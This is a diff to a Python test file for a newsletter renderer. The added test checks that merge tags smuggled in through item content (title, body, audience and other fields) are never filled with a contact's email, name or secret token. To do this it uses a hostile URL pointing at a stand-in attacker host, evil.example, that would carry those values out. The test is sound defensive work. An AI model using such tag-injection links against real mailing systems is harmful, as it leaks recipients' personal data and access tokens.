@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import dataclasses
+import re
 import shutil
 from datetime import UTC, datetime
 from pathlib import Path
@@ -130,3 +132,36 @@ def test_compacting_keeps_preformatted_text_and_drops_indentation() -> None:
 
     html = "<div>\n    <p>a</p>\n\n  <pre>  x\n    y\n</pre>\n   <b>z</b>\n</div>"
     assert compact_html(html) == "<div>\n<p>a</p>\n<pre>  x\n    y\n</pre>\n<b>z</b>\n</div>"
+
+
+@pytest.mark.parametrize(
+    "field",
+    ["title", "summary", "speaker", "key_message", "body_html", "image", "audience"],
+)
+def test_a_contacts_values_never_fill_a_tag_that_came_with_the_content(field: str) -> None:
+    hostile = "https://evil.example/c?e=%%email%%&t=%%token.raw%%&n=%%first_name%%"
+    values = {
+        "body_html": f'<p><a href="{hostile}">win</a> <img src="{hostile}"></p>',
+    }.get(field, hostile)
+    changes: dict[str, str | None] = {} if field == "audience" else {field: values}
+    if field == "body_html":  # shown only for an item without a page of its own
+        changes |= {"url": None}
+    item = dataclasses.replace(ITEM, **changes)
+    audience = (
+        AudienceInfo("sales", hostile, hostile) if field == "audience" else SECTIONS[0].audience
+    )
+    compiled = Renderer(templates_dir()).compile(
+        "newsletter", FACTS, [Section(audience, (item,))], SENDER, {11: 3},
+        TrackedLinks(BASE, html_placeholder("token")), TrackedLinks(BASE, raw_placeholder("token")),
+    )  # fmt: skip
+    contact = ContactValues("Ana", "Lima", "ana@partner.example", "Acme", "SECRET-TOKEN")
+    found = [
+        url
+        for part in (compiled.html, compiled.text, compiled.subject)
+        for url in re.findall(r"evil\.example/c\?[^\s\"'<>]*", part.fill(contact.tags()))
+    ]
+    assert found  # the hostile URL is in the message, as the content wrote it ...
+    for url in found:  # ... and no contact's value was put into it
+        assert not {"ana", "SECRET-TOKEN", "Ana"} & set(re.split(r"[=&%;]", url)), url
+    # The template's own tags are still filled: the unsubscribe link carries the token.
+    assert f"{BASE}/u/SECRET-TOKEN" in compiled.html.fill(contact.tags())
